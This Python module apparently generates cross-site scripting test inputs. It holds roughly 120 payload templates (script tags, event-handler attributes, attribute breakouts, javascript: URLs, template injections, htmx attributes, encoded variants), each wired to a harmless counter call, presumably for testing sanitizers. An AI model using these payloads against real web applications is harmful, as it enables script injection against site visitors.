"""120 texts that would be a script if anything let them: in markup, attributes, addresses, scripts, styles, templates.

Each calls `__struck(n)`, and none asks for anything from another place: what runs is counted in the page itself.
"""

from collections.abc import Iterator

#: `{}` is the call. Kept under 60 letters where that can be, so that short fields take them too.
_MARKUP = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<script>{}//",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src="x" onerror="{}">',
    "<IMG SRC=x OnErRoR={}>",
    "<img/src=x/onerror={}>",
    "<img src=x onload={} onerror={}>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><a href=javascript:{}><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href=javascript:{}>x</math>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe onload={}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<embed src=javascript:{}>",
    "<object data=javascript:{}>",
    "<video><source onerror={}></video>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<button autofocus onfocus={}>x</button>",
    "<a autofocus tabindex=1 onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<marquee onstart={}>x</marquee>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<template><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<xss autofocus tabindex=1 onfocus={}>",
    "<x onclick={}>x</x>",
    "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>",
    "<isindex action=javascript:{} type=image>",
)
_OUT_OF_ATTRIBUTES = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onfocus="{}" autofocus="',
    "' onfocus='{}' autofocus='",
    '" onmouseover="{}" x="',
    "` onerror={} `",
    '"autofocus onfocus={} x="',
    "x onfocus={} autofocus",
    '"><svg/onload={}>',
    "'/><svg/onload={}>",
    '" style="x" onload="{}',
    "</textarea><img src=x onerror={}>",
    "</title><script>{}</script>",
    "</option></select><img src=x onerror={}>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</td></tr></table><img src=x onerror={}>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</svg><img src=x onerror={}>",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "java\tscript:{}",
    "javascript:{}//http://x",
    "data:text/html,<script>parent.{}</script>",
    "vbscript:{}",
    "view-source:javascript:{}",
    "//x/%0ajavascript:{}",
    "javascript://%0a{}",
    "/\\javascript:{}",
    "?next=javascript:{}",
    "#<img src=x onerror={}>",
)
_SCRIPTS = (
    "';{};'",
    '";{};"',
    "\\';{};//",
    '\\";{};//',
    "${{{}}}",
    "`${{{}}}`",
    "{{{{{}}}}}",
    "{{% print({}) %}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "[[{}]]",
    "<%={}%>",
    "#{{{}}}",
    "*{{{}}}",
    "@({})",
    "eval('{}')",
    "\u2028{}\u2028",
    "*/{}/*",
    "-{}-",
    "+{}+",
)
_HTMX = (
    '<p hx-on:load="{}">x</p>',
    '<p hx-on::load="{}">x</p>',
    '<p hx-get="/" hx-trigger="load[{}]">x</p>',
    '<p hx-vals="js:{{x:{}}}" hx-get="/" hx-trigger="load">x</p>',
    '<p data-hx-on:load="{}">x</p>',
)
_ENCODED = (
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<img src=x one&#114;ror={}>",
    "<ſcript>{}</ſcript>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
)
KINDS = (_MARKUP, _OUT_OF_ATTRIBUTES, _ADDRESSES, _SCRIPTS, _HTMX, _ENCODED)


def payloads() -> Iterator[str]:
    """All of them; each is known by its number."""
    number = 0
    for kind in KINDS:
        for shape in kind:
            number += 1
            yield shape.replace("{}", f"__struck({number})").replace("{{", "{").replace("}}", "}")
